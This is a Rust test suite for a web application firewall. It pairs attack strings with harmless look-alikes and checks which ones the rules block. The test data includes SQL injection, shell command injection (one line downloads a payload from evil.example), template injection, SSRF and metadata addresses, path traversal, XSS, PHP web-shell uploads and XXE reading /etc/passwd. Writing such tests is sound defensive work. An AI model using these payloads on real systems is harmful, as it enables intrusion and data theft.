//! Attacks and their nearest innocent look-alikes, value by value: what the rules go by is grammar, not words.
//!
//! Each value is sent in a query, in JSON, in a form and in XML; what is stopped in one is stopped in all of them.

use std::path::Path;
use std::sync::Arc;

use anyhow::Result;
use bartizan_waf::{Gates, Plan};
use serde_json::json;

use crate::encode::component;
use crate::engine::{self, Configuration};
use crate::sample::Sample;

/// What is to become of a value.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Fate {
    Stopped,
    Passed,
}
use Fate::{Passed, Stopped};

fn places(value: &str) -> [Sample; 4] {
    let sample = |method: &str, target: String| {
        let sample = Sample { method: method.to_owned(), target, ..Sample::default() };
        sample.with("Host", "api.example.com").with("User-Agent", "curl/8.9").with("Accept", "*/*")
    };
    let xml = value.replace('&', "&amp;").replace('<', "&lt;");
    [
        sample("GET", format!("/v1/items?note={}", component(value))),
        sample("POST", "/v1/items".to_owned()).with_body("application/json", json!({ "note": value }).to_string()),
        sample("POST", "/v1/items".to_owned())
            .with_body("application/x-www-form-urlencoded", format!("note={}", component(value))),
        sample("POST", "/v1/items".to_owned()).with_body("application/xml", format!("<item><note>{xml}</note></item>")),
    ]
}

/// Our own rules, and those of the Core Rule Set with them: the second may stop no more of what is honest.
fn plans() -> Result<Vec<(Configuration, Arc<Plan>)>> {
    let own = (Configuration::OwnPack, Configuration::OwnPack.plan(Path::new(""), Gates::All)?);
    let Some(rule_set) = engine::rule_set_folder() else {
        eprintln!("SKIPPED: no Core Rule Set at `BARTIZAN_CRS` or `../shared/crs`: only our own rules were tried");
        return Ok(vec![own]);
    };
    Ok(vec![own, (Configuration::Both, Configuration::Both.plan(&rule_set, Gates::All)?)])
}

#[track_caller]
fn check(cases: &[(Fate, &str)]) -> Result<()> {
    let plans = plans()?;
    let mut wrong = Vec::new();
    for (fate, value) in cases {
        for (configuration, plan) in &plans {
            for sample in places(value) {
                let verdict = engine::judge(plan, &sample);
                if verdict.is_stopped != (*fate == Stopped) {
                    let body = String::from_utf8_lossy(&sample.body).into_owned();
                    wrong.push(format!(
                        "{fate:?} {value:?} by {configuration:?} in {} {body}: {:?}",
                        sample.target, verdict.rules
                    ));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    Ok(())
}

#[test]
fn sql_breaks_out_and_goes_on() -> Result<()> {
    check(&[
        (Stopped, "7 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 2 END))"),
        (Stopped, "1; ATTACH DATABASE '/srv/www/a.php' AS a;--"),
        (Stopped, "x'; update users set role='admin' where 'a'='a"),
        (Stopped, "4 union select name, pass from users"),
        (Stopped, "' or '1'='1"),
        (Stopped, "\u{ff07} or \u{ff07}1\u{ff07}=\u{ff07}1"),
        (Passed, "Union Select Brewing Co."),
        (Passed, "Sleep(Well) Mattresses"),
        (Passed, "99 Select Ave."),
        (Passed, "Ring the bell; call Anna"),
        (Passed, "Chapters 2 and 3 in the book"),
        (Passed, "this `while (true)` with `sleep(30)` blocks"),
        (Passed, "\"#hashtag of the day\""),
        (Passed, "SELECT your seat; ORDER your meal."),
    ])
}

#[test]
fn a_command_needs_an_operator_of_the_shell_and_what_a_command_takes() -> Result<()> {
    check(&[
        (Stopped, "backup.tar.gz;chmod 777 /etc/passwd"),
        (Stopped, "a.jpg|id>/tmp/o"),
        (Stopped, "8.8.8.8;c'a't /e't'c/pas'sw'd"),
        (Stopped, ";X=$'cat\\x20/etc/passwd'&&$X"),
        (Stopped, "--upload-pack=touch /tmp/x"),
        (Stopped, "8.8.8.8 & net user bob /add"),
        (Stopped, "x|certutil -urlcache -f http://evil.example/a.exe a.exe"),
        (Stopped, "1 && %COMSPEC% /c dir"),
        (Passed, "B&W"),
        (Passed, "4711; Ping Pong e.V."),
        (Passed, "/usr/bin/python3"),
        (Passed, "--type=renderer --lang=de"),
        (Passed, "`$ref` names the schema"),
        (Passed, "Time / Date"),
    ])
}

#[test]
fn a_template_is_made_to_reach_out() -> Result<()> {
    check(&[
        (Stopped, "{{config['SECRET_KEY']}}"),
        (Stopped, "{%debug%}"),
        (Stopped, "{{.System \"ls\"}}"),
        (Stopped, "{php}echo `id`;{/php}"),
        (Stopped, "@{System.Diagnostics.Process.Start(\"cmd.exe\");}"),
        (Stopped, "#{systemProperties['user.dir']}"),
        (Stopped, "*{T(java.lang.Runtime).getRuntime()}"),
        (Passed, "{{ config.title }}"),
        (Passed, "{{ item.class }}"),
        (Passed, "${{ matrix.target.env.NAME }}"),
        (Passed, "{{ states('sensor.lux')|float < 64 }}"),
        (Passed, "Hi {{ first_name }}, your order shipped"),
    ])
}

#[test]
fn an_address_of_the_inside_is_one_in_every_writing() -> Result<()> {
    check(&[
        (Stopped, "http:127.0.0.1/"),
        (Stopped, "http://localhost%00.example.com/"),
        (Stopped, "http://017700000001/"),
        (Stopped, "http://\u{ff11}\u{ff16}\u{ff19}.254.169.254/"),
        (Stopped, "http://172.17.0.1:2375/images/json"),
        (Stopped, "http://localtest.me/admin"),
        (Stopped, "file:///etc/passwd"),
        (Passed, "http://10.0.0.5/"),
        (Passed, "file:///home/anna/project/src/main.ts"),
        (Passed, "https://localhost-games.com/callback"),
        (Passed, "see http://localhost:3000 for the preview"),
    ])
}

#[test]
fn a_path_goes_up_to_something() -> Result<()> {
    check(&[
        (Stopped, "../../../../etc/passwd"),
        (Stopped, "..\\..\\..\\windows\\win.ini"),
        (Passed, "../../../src/components/Button.tsx"),
        (Passed, "../tsconfig.base.json"),
        (Passed, "C:\\Windows\\System32\\ntdll.dll"),
    ])
}

#[test]
fn markup_runs_or_is_shown() -> Result<()> {
    check(&[
        (Stopped, "<details open ontoggle=alert(1)>"),
        (Stopped, "<iframe src=\"data:text/html,<script>1</script>\">"),
        (Stopped, "<meta http-equiv=refresh content=\"0;url=javascript:1\">"),
        (Passed, "use `<button onclick=\"save(1)\">` for it"),
        (Passed, "<iframe width=\"560\" src=\"https://www.youtube.com/embed/x\" allowfullscreen></iframe>"),
        (Passed, "<link rel=\"stylesheet\" href=\"https://fonts.example/css\">"),
        (Passed, "<!-- wp:paragraph -->"),
        (Passed, "javascript:void(0)"),
    ])
}

#[test]
fn code_calls_what_no_value_calls() -> Result<()> {
    check(&[
        (Stopped, "sys/**/tem('id');"),
        (Stopped, "\".system('ls').\""),
        (Stopped, "(sy.(st).em)(whoami);"),
        (Stopped, "import os;os.system('id')"),
        (Stopped, "\"id\".execute()"),
        (Stopped, "process.exit(1)"),
        (Passed, "require('semver')"),
        (Passed, "self.__class__.__name__"),
        (Passed, "return function () {"),
        (Passed, "items.map(i => i.price)"),
        (Passed, "$map(order.items, function($v){ $v.qty })"),
    ])
}

#[test]
fn directories_and_documents_are_asked_behind_a_break_out() -> Result<()> {
    check(&[
        (Stopped, "admin*)((|userPassword=*)"),
        (Stopped, "\" or true() or \""),
        (Stopped, "1] | //password | a[1"),
        (Passed, "(sales|support) (EU)"),
        (Passed, "contains(name,'adm') or startswith(name,'b')"),
    ])
}

fn upload(filename: &str, content: &str) -> Sample {
    let body = format!(
        "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: \
         application/octet-stream\r\n\r\n{content}\r\n--b--\r\n"
    );
    let sample = Sample { method: "POST".to_owned(), target: "/v1/uploads".to_owned(), ..Sample::default() };
    let sample = sample.with("Host", "api.example.com").with("User-Agent", "curl/8.9").with("Accept", "*/*");
    sample.with_body("multipart/form-data; boundary=b", body)
}

#[test]
fn an_upload_is_a_program_that_takes_commands() -> Result<()> {
    let cases = [
        (Stopped, "a.php", "hello"),
        (Stopped, "a.php.jpg", "hello"),
        (Stopped, ".htaccess", "AddType application/x-httpd-php .jpg"),
        (Stopped, "a.gif", "GIF89a<?php system($_GET['c']); ?>"),
        (Stopped, "a.txt", "<% eval request(\"c\") %>"),
        (Stopped, "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
        (Stopped, "a.xml", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
        (Passed, "maple (O'Brien).txt", "hello"),
        (Passed, "build.sh", "#!/bin/sh\nset -eu\nmake && make install\n"),
        (Passed, "notes.md", "# PHP\n\nBegin with `<?php` and echo something.\n"),
        (Passed, "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>"),
    ];
    for (configuration, plan) in plans()? {
        for (fate, filename, content) in cases {
            let verdict = engine::judge(&plan, &upload(filename, content));
            assert_eq!(verdict.is_stopped, fate == Stopped, "{configuration:?} {filename} {content}: {verdict:?}");
        }
    }
    Ok(())
}

#[test]
fn a_password_is_random_and_an_injection_in_its_field_is_not() -> Result<()> {
    for (configuration, plan) in plans()? {
        for (fate, password) in [
            (Passed, "G@=e1'#F;id|W"),
            (Passed, "|Jba\\N|k1ZR$s1INgj"),
            (Passed, "xaSWI&yIo1SVKn`;"),
            (Stopped, "' or '1'='1"),
            (Stopped, "x' union select 1,2 -- "),
        ] {
            let sample = Sample { method: "POST".to_owned(), target: "/v1/sessions".to_owned(), ..Sample::default() };
            let sample = sample.with("Host", "api.example.com").with("User-Agent", "curl/8.9").with("Accept", "*/*");
            let sample =
                sample.with_body("application/json", json!({ "user": "anna", "password": password }).to_string());
            let verdict = engine::judge(&plan, &sample);
            assert_eq!(verdict.is_stopped, fate == Stopped, "{configuration:?} {password}: {verdict:?}");
        }
    }
    Ok(())
}
